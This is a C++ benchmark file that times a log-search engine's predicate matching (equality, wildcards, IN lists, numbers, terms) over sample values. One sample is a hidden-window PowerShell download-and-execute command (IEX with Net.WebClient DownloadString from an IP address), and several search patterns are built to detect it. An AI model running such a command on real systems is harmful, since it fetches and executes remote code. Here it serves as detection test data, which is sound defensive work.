// Search expressions over values that are extracted already.
#include "engine/run/run_context.h"
#include "engine/search/predicate.h"
#include "parser/parser.h"

#include <benchmark/benchmark.h>

#include <string>

namespace {

using namespace karst;

constexpr const char* kValues[] = {
    "CopyObject",
    "DescribeInstances",
    "GetObject",
    "AssumeRole",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\""};

void predicate(benchmark::State& state, const char* text) {
    const auto source = SourceText::whole("benchmark", text);
    FieldTable fields;
    SearchCompiler compiler(
        source, [&](std::string_view name) { return fields.intern(name); }, 0, TimeZone());
    const auto search = compiler.compile(*parse_search_expression(source));
    RunContext run;
    Batch batch;
    for (const char* value : kValues) {
        auto& row = batch.append(fields.size());
        for (FieldId field = 0; field < fields.size(); ++field) {
            batch.set(row, field, Value::string(value));
        }
    }
    Arena scratch;
    for (auto _ : state) {
        scratch.clear();
        for (const auto& row : batch.rows()) {
            RowReader reader(row);
            EvalContext context{reader, scratch, run};
            benchmark::DoNotOptimize(search->test(context));
        }
    }
    state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations() * batch.size()));
}
BENCHMARK_CAPTURE(predicate, equal, "a=CopyObject");
BENCHMARK_CAPTURE(predicate, wildcard_at_both_ends, "a=\"*downloadstring*\"");
BENCHMARK_CAPTURE(predicate, several_pieces, "a=\"*power*net.web*http*\"");
BENCHMARK_CAPTURE(predicate, one_of_several, "a IN (PutObject, DeleteObject, CreateUser, GetObject, ListUsers, PutUserPolicy)");
BENCHMARK_CAPTURE(predicate, number, "a>10");
BENCHMARK_CAPTURE(predicate, term, "hidden");

}  // namespace
